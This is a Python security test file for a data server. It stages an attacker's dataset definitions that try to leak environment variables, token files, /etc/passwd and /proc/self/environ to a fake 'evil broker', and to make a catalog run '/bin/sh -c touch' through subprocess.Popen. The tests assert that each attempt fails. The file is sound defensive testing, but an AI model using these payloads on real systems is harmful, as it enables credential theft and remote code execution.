"""Attacks on a running server by somebody who may commit on one branch: no definition opens the server's machine."""

# mypy: disable-error-code="attr-defined"

import secrets
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from datetime import datetime
from pathlib import Path
from typing import Any

import httpx2
import pyarrow as pa
import pytest
from confluent_kafka import Producer
from confluent_kafka.admin import AdminClient
from confluent_kafka.cimpl import NewTopic
from pyiceberg.catalog.sql import SqlCatalog
from pyiceberg.table import Table

from caraway import Client, Dataset, connectors, dataset, field, meta, pipeline
from caraway.connectors import Avro, Iceberg, Kafka, Postgres, Webhook, sink, source
from caraway.errors import RemoteError
from caraway.integrations.aws import Secret
from caraway.lib import inputs
from caraway.process.settings.connectors import SourcesSettings
from caraway.process.settings.settings import SecretsSettings
from caraway.state.access import Access
from caraway.state.database import connect
from caraway.state.permissions import Grant, Mode
from tests.integration.databases import new_database
from tests.integration.server.attacks import timed, unharmed
from tests.integration.server.server_process import ServerProcess, eventually
from tests.services.hostile import Heard, evil_broker, http_service, table_answer
from tests.tls import TLS

BRANCH = "dev"
# The seconds in which a trial, a preview or a commit is answered: a connector is tried in a process of its own, whose
# program the first one loads. Other callers are answered meanwhile (`unharmed`).
PROCESS_S = 5.0
# A variable of the server's environment that no setting lists, and one that a setting lists.
HIDDEN, LISTED = "OPEN_DOORS_HIDDEN", "OPEN_DOORS_LISTED"
VALUE, LISTED_VALUE = f"hidden-{secrets.token_hex(8)}", f"listed-{secrets.token_hex(8)}"


class House:
    """A server, what an attacker wants of it, and the attacker's client, which may do everything on one branch."""

    def __init__(self, server: ServerProcess, client: Client, folder: Path) -> None:
        self.server, self.client, self.folder = server, client, folder
        data = server.settings.data_dir
        self.token_file, self.key_file = data / "run" / "token", data / "secret.key"
        self.valuables = [VALUE, self.token_file.read_text(), self.key_file.read_text().split()[-1]]

    def ways(self, definition: Dataset) -> dict[str, str]:
        """Return the answers to a trial, a preview and a commit of a definition, which nobody else may notice."""
        with unharmed(self.server):
            return {
                "try": self.answer(lambda: self.client.try_sources(definition.__name__, [definition])),
                "preview": self.answer(lambda: self.client.commit("evil", [definition], preview=True)),
                "commit": self.answer(lambda: self.client.commit("evil", [definition])),
            }

    def answer(self, ask: Callable[[], Any]) -> str:
        """Return the error of a request, which must have one and come in time."""
        try:
            found = timed(self.server, ask, PROCESS_S)
        except RemoteError as error:
            return str(error)
        assert isinstance(found, list), f"it was done: {found}"
        (trial,) = found
        assert not trial["rows"], trial
        return str(trial["error"])


@pytest.fixture(scope="module")
def house(kafka: str, postgres_server: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    """Yield a server with tokens, one of which holds for one branch only."""
    folder = tmp_path_factory.mktemp("doors")
    token = folder / "data" / "run" / "token"
    token.parent.mkdir(parents=True)
    token.write_text(f"operator-{secrets.token_hex(16)}")
    token.chmod(0o600)
    listed = folder / "listed"
    (folder / "tables").mkdir()
    with ExitStack() as stack:
        patch = stack.enter_context(pytest.MonkeyPatch.context())
        patch.setenv(HIDDEN, VALUE)
        patch.setenv(LISTED, LISTED_VALUE)
        # The operator's own token for a catalog, which `pyiceberg` would take for any catalog of this name.
        patch.setenv("PYICEBERG_CATALOG__EVIL__TOKEN", VALUE)
        database = stack.enter_context(new_database(postgres_server))
        process = ServerProcess(
            folder / "data",
            kafka=kafka,
            postgres=database,
            cold=True,
            tokens=True,
            admin_token_file=token,
            sources=SourcesSettings(local_folders=(str(folder / "tables"),)),
            secrets=SecretsSettings(environment=(LISTED,), files=(listed, token, Path("/proc/self/environ"))),
        )
        process.start()
        stack.callback(process.stop)
        engine = connect(database)
        stack.callback(engine.dispose)
        access = Access(engine, by="test")
        access.define_role("devs", [Grant(modes=frozenset(Mode), branches=frozenset({BRANCH}))])
        _, limited = access.create_token("mallory@example.com", roles_given=["devs"])
        url = process.settings.server.url
        with Client(url, token.read_text()) as operator:
            eventually(
                lambda: httpx2.get(f"{url}/api/v1/status", headers=_bearer(limited), verify=TLS).status_code == 200
            )
            operator.init_branch(BRANCH)
        house = House(process, stack.enter_context(Client(url, limited, BRANCH)), folder)
        # The first definition that reads an Iceberg catalog makes a thread of the server import pyiceberg, for seconds.
        house.client.try_sources("Loot", [rows_of(Iceberg(name="none", uri="http://127.0.0.1:1").table("ns.loot"))])
        yield house


def _bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


@pytest.fixture
def evil() -> Iterator[Heard]:
    with evil_broker() as heard:
        yield heard


def rows_of(connector: connectors.DataConnector, cdc: Any = "append", **more: Any) -> Dataset:
    @meta(owner="mallory@example.com")
    @source(connector, disorder="1d", cdc=cdc, **more)
    @dataset
    class Loot:
        pot: int
        at: datetime = field(timestamp=True)

    return Loot


def copied_to(connector: connectors.DataConnector) -> list[Dataset]:
    """Return a dataset that is written to a system, and its input."""

    @meta(owner="mallory@example.com")
    @source(Webhook(name="web").endpoint("loot"), disorder="1d", cdc="append")
    @dataset
    class Given:
        pot: int
        at: datetime = field(timestamp=True)

    @meta(owner="mallory@example.com")
    @sink(connector, how="incremental")
    @dataset
    class Loot:
        pot: int
        at: datetime = field(timestamp=True)

        @pipeline
        @inputs(Given)
        def copy(cls, given):  # type: ignore[no-untyped-def]  # noqa: ANN001, ANN202 (as users write it)
            return given.filter(lambda rows: rows["pot"] > 0)

    return [Given, Loot]


def signed_in(address: str, reference: str, **more: Any) -> Dataset:
    """Return a dataset whose source has the server sign in at a broker with the value of a reference."""
    kafka = Kafka(
        name="evil",
        bootstrap_servers=address,
        security_protocol="SASL_PLAINTEXT",
        sasl_mechanism="PLAIN",
        sasl_plain_username="mallory",
        sasl_plain_password=Secret(arn=reference, **more),
    )
    return rows_of(kafka.topic("loot"))


def test_the_evil_broker_hears_a_password_that_a_setting_lists(house: House, evil: Heard) -> None:
    (trial,) = house.client.try_sources("Loot", [signed_in(evil.address, f"env:{LISTED}")])
    assert trial["error"]
    assert LISTED_VALUE.encode() in evil.sent


@pytest.mark.parametrize(
    "reference",
    [
        f"env:{HIDDEN}",
        "file:{data}/run/token",
        "file:{data}/secret.key",
        "file:/proc/self/environ",
        "file:/etc/passwd",
        "file:{folder}/listed",
    ],
)
def test_no_file_and_no_variable_leaves_by_a_definition(house: House, evil: Heard, reference: str) -> None:
    # A setting lists this link, which leads to the token of the operator, as it does the token file itself.
    link = house.folder / "listed"
    if not link.is_symlink():
        link.symlink_to(house.token_file)
    reference = reference.format(data=house.server.settings.data_dir, folder=house.folder)
    absent = f"{reference}-that-is-not-there"
    found = house.ways(signed_in(evil.address, reference))
    missing = house.ways(signed_in(evil.address, absent))
    setting = "secrets.environment" if reference.startswith("env:") else "secrets.files"
    for way, text in found.items():
        assert setting in text, (way, text)
        assert "caraway secrets set" in text, (way, text)
        # The answer doesn't tell what is there.
        assert text == missing[way].replace(absent, reference)
    assert not evil.sent


def test_the_registry_gets_no_file(house: House, kafka: str) -> None:
    topic = f"loot-{secrets.token_hex(4)}"
    admin = AdminClient({"bootstrap.servers": kafka})
    admin.create_topics([NewTopic(topic, 1, 1)])[topic].result(30)
    producer = Producer({"bootstrap.servers": kafka})
    producer.produce(topic, b"\0\0\0\0\1\2")
    assert producer.flush(30) == 0
    brokers = Kafka(name="evil", bootstrap_servers=kafka, security_protocol="PLAINTEXT", sasl_mechanism="PLAIN")
    with http_service({}) as registry:
        for reference, heard in (
            (f"env:{LISTED}", True),
            (f"env:{HIDDEN}", False),
            (f"file:{house.token_file}", False),
        ):
            avro = Avro(registry="confluent", url=registry.address, token=Secret(arn=reference))
            (trial,) = house.client.try_sources("Loot", [rows_of(brokers.topic(topic, format=avro))])
            # With a token that a setting lists, the registry is asked, so that the attack would have worked.
            assert (LISTED_VALUE.encode() in registry.sent) is heard, trial
            registry.sent.clear()


def test_the_identity_of_the_server_at_aws_is_not_lent(house: House, evil: Heard) -> None:
    arn = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:anything"
    for more in ({}, {"role_arn": "arn:aws:iam::123456789012:role/made-up"}):
        for text in house.ways(signed_in(evil.address, arn, **more)).values():
            assert "secrets.aws" in text
    assert not evil.sent


def test_a_database_gets_no_file_of_the_server_and_is_not_reached_by_a_socket(house: House) -> None:
    own: dict[str, Any] = {"name": "evil", "db_name": "loot", "username": "mallory", "password": "x"}
    key = f"sslmode=verify-full&sslkey={house.token_file}"
    for postgres, said in (
        (Postgres(host="127.0.0.1", port=1, jdbc_params=key, **own), "secrets.files"),
        (Postgres(host="/var/run/postgresql", **own), "neither a name nor an IP address"),
    ):
        for text in house.ways(rows_of(postgres.table("loot", cursor="at"), every="1h")).values():
            assert said in text, text


def asked(house: House, lake: Iceberg) -> dict[str, str]:
    """Return the answers to a trial, and to previews of a source and of a sink, that open a catalog."""
    read = rows_of(lake.table("ns.loot"), every="5m")
    with unharmed(house.server):
        made = {
            "try": house.answer(lambda: house.client.try_sources("Loot", [read])),
            "source": house.answer(lambda: house.client.commit("evil", [read], preview=True)),
        }
        try:
            # A sink whose table isn't there yet may be committed.
            copy = copied_to(lake.table("ns.loot"))
            made["sink"] = str(timed(house.server, lambda: house.client.commit("evil", copy, preview=True), PROCESS_S))
        except RemoteError as error:
            made["sink"] = str(error)
    return made


def evil_config(mark: Path) -> list[dict[str, Any]]:
    """Return what a catalog may say about itself so that a client runs code, which leaves a mark."""
    script = ["/bin/sh", "-c", f"touch {mark}"]
    return [
        {"auth": {"type": "custom", "impl": "subprocess.Popen", "custom": {"args": script}}},
        {"auth": {"type": "custom", "impl": "os.system", "custom": {"command": f"touch {mark}"}}},
        {"/bin/sh": "", "-c": "", f"touch {mark}": "", "py-io-impl": "subprocess.Popen"},
        {"ssl": {"cabundle": str(mark), "client": {"cert": str(mark), "key": str(mark)}}},
        {"rest.sigv4-enabled": "true", "client.profile-name": "default"},
        {"s3.retry-strategy-impl": "subprocess.Popen", "write.py-location-provider.impl": "subprocess.Popen"},
        {"uri": f"file://{mark}"},
    ]


def evil_tables(folder: Path) -> Iterator[dict[str, Any]]:
    """Yield tables of a catalog whose properties name code, and whose metadata names files of the server."""
    files = {"py-io-impl": "pyiceberg.io.pyarrow.PyArrowFileIO", "caraway.local-folders": '["/"]'}
    code = {"write.py-location-provider.impl": "subprocess.Popen", "s3.retry-strategy-impl": "subprocess.Popen"}
    for properties in (files, code):
        yield table_answer(f"file://{folder}/manifests.avro", properties)


# Each case takes two trials, a commit and their processes.
VARIANT = pytest.mark.full(reason="a variant of an answer; each run has others")


@pytest.mark.parametrize("number", [0, *(pytest.param(number, marks=VARIANT) for number in range(1, 6)), 6])
def test_a_catalog_s_answer_runs_no_code(house: House, tmp_path: Path, number: int) -> None:
    mark = tmp_path / "mark"
    config = dict.fromkeys(("defaults", "overrides"), evil_config(mark)[number])
    answers = {"/v1/config": config, "/tables/loot": table_answer(f"file://{tmp_path}/list.avro", {})}
    with http_service(answers) as catalog:
        found = asked(house, Iceberg(name="evil", uri=catalog.address))
        # The catalog's words about itself had no effect: the server asked for the table next, at the same address.
        at_table = [path for path in catalog.paths if "ns/tables/loot" in path]
    if "uri" in config["overrides"]:
        assert all("isn't http(s)://" in text for text in found.values()), found
    else:
        assert len(at_table) >= len(found), (catalog.paths, found)
    assert VALUE.encode() not in catalog.sent
    assert not mark.exists()
    assert str(mark) not in str(found)


@pytest.mark.parametrize("number", [pytest.param(0, marks=VARIANT), 1])
def test_a_table_s_properties_run_no_code_and_open_no_file(house: House, tmp_path: Path, number: int) -> None:
    table = list(evil_tables(tmp_path))[number]
    # A file that could be opened would be no manifest, which is another error than that it isn't to be opened.
    (tmp_path / "manifests.avro").write_text(VALUE)
    answers = {"/v1/config": {"defaults": {}, "overrides": {}}, "/tables/loot": table}
    with http_service(answers) as catalog:
        lake = Iceberg(name="evil", uri=catalog.address)
        for text in house.ways(rows_of(lake.table("ns.loot"), every="5m")).values():
            assert "isn't in a folder that the server may use" in text or "names code" in text, text
        assert any("ns/tables/loot" in path for path in catalog.paths), catalog.paths


@pytest.fixture
def catalog_url(postgres: str) -> str:
    return postgres.replace("postgresql://", "postgresql+psycopg://")


def test_an_honest_catalog_with_an_evil_table_opens_no_other_folder(
    house: House, tmp_path: Path, catalog_url: str
) -> None:
    warehouse = house.folder / "tables"
    catalog = SqlCatalog("evil", uri=catalog_url, warehouse=f"file://{warehouse}")
    catalog.create_namespace_if_not_exists("ns")
    schema = pa.schema([("pot", pa.int64()), ("at", pa.timestamp("us", "UTC"))])
    made: list[Table] = []
    for name, properties in (
        ("good", {}),
        ("loot", {"py-io-impl": "pyiceberg.io.pyarrow.PyArrowFileIO", "write.data.path": f"file://{tmp_path}"}),
    ):
        made.append(catalog.create_table(f"ns.{name}", schema, properties=properties))
        made[-1].append(pa.Table.from_pylist([{"pot": 1, "at": datetime(2026, 1, 1)}], schema))  # noqa: DTZ001
    catalog.engine.dispose()
    lake = Iceberg(name="evil", uri=catalog_url, warehouse=f"file://{warehouse}")
    (trial,) = house.client.try_sources("Loot", [rows_of(lake.table("ns.good"), every="5m")])
    assert [row["payload"]["pot"] for row in trial["rows"]] == [1], trial
    (trial,) = house.client.try_sources("Loot", [rows_of(lake.table("ns.loot"), every="5m")])
    assert not trial["rows"]
    assert "isn't in a folder that the server may use" in trial["error"]
